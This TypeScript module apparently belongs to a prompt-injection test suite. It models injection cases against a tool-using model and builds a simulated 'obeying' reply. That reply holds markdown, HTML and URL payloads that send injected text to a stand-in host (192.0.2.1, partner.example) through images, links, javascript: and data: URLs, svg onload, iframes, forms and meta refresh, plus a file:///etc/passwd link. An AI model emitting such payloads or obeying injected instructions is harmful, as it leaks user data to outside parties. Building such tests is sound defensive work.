import { readFileSync } from 'node:fs';

/** What a document or a result asks of the model that reads it. Written for this set; every one has its own idea. */
export interface InjectionCase {
  /** Names it in the text that is read. */
  ref: string;
  place: string;
  language: 'en' | 'de' | 'vi';
  technique: string;
  text: string;
  /** The calls that a model makes that obeys to the letter. */
  calls: readonly { tool: string; input: Record<string, unknown> }[];
}

type Row = readonly [language: InjectionCase['language'], technique: string, tools: string, given: string, text: string];

/** Several calls of one case stand beside each other. */
const BESIDE = ';;';

const INPUTS: Readonly<Record<string, (given: string) => Record<string, unknown>>> = {
  set_value: (given) => ({ tag: given.split('=')[0], value: given.slice(given.indexOf('=') + 1) }),
  order_part: (article) => ({ article }),
  partner_lookup: (query) => ({ query }),
  desk_lookup: (query) => ({ query }),
  desk_post: (text) => ({ text }),
};

/** Where nobody of the plant is: addresses that documents use as an example. */
export const FOREIGN = ['https://192.0.2.1', 'partner.example'] as const;

/** What a model answers that obeys: all that it was told, in every way that could take it along by being looked at, or pressed. */
export function obeyingAnswer({ text }: InjectionCase): string {
  const [there, name] = FOREIGN;
  const said = encodeURIComponent(text.slice(0, 60).toWellFormed());
  return [
    `As told: ${text}`,
    `![status](${there}/picture.png?d=${said}) ![](<${there}/second.png>) ![by name][picture]`,
    `[Open the report](${there}/link?d=${said}) [//](//192.0.2.1/same-scheme) [by name][link] <${there}/angled> ${there}/bare www.${name}/word somebody@${name}`,
    `[run](javascript:fetch('${there}/run')) [page](data:text/html,<script>fetch('${there}/page')</script>) [file](file:///etc/passwd)`,
    `Inline <img src="${there}/inline"> <a href="${there}/inline-link">here</a> <svg onload="fetch('${there}/drawn')"></svg>`,
    `<img src="${there}/block" onerror="fetch('${there}/failed')">\n<iframe src="${there}/frame"></iframe>\n<style>@import url(${there}/style); p { background: url(${there}/background) }</style>\n<form action="${there}/form"><button>Confirm</button></form>\n<meta http-equiv="refresh" content="0;url=${there}/refresh">`,
    `| pump | state |\n| --- | --- |\n| [P-9](${there}/cell) | ![](${there}/cell.png) |`,
    `- [ ] see the note[^note]`,
    `[picture]: ${there}/named.png "title"\n[link]: ${there}/named\n\n[^note]: ![](${there}/note.png) [note](${there}/note)`,
  ].join('\n\n');
}

/** All cases, by the place that their text stands in. */
export function readCases(): InjectionCase[] {
  const places = JSON.parse(readFileSync(new URL('cases.json', import.meta.url), 'utf8')) as Record<string, Row[]>;
  return Object.entries(places).flatMap(([place, rows]) =>
    rows.map(([language, technique, tools, given, text], at): InjectionCase => {
      const values = given.split(BESIDE);
      const calls = tools.split(BESIDE).map((tool, n) => ({ tool, input: (INPUTS[tool] ?? ((content) => ({ content })))(values[n] ?? '') }));
      return { ref: `${place.toUpperCase()} ${at + 1}.`, place, language, technique, text, calls };
    }),
  );
}
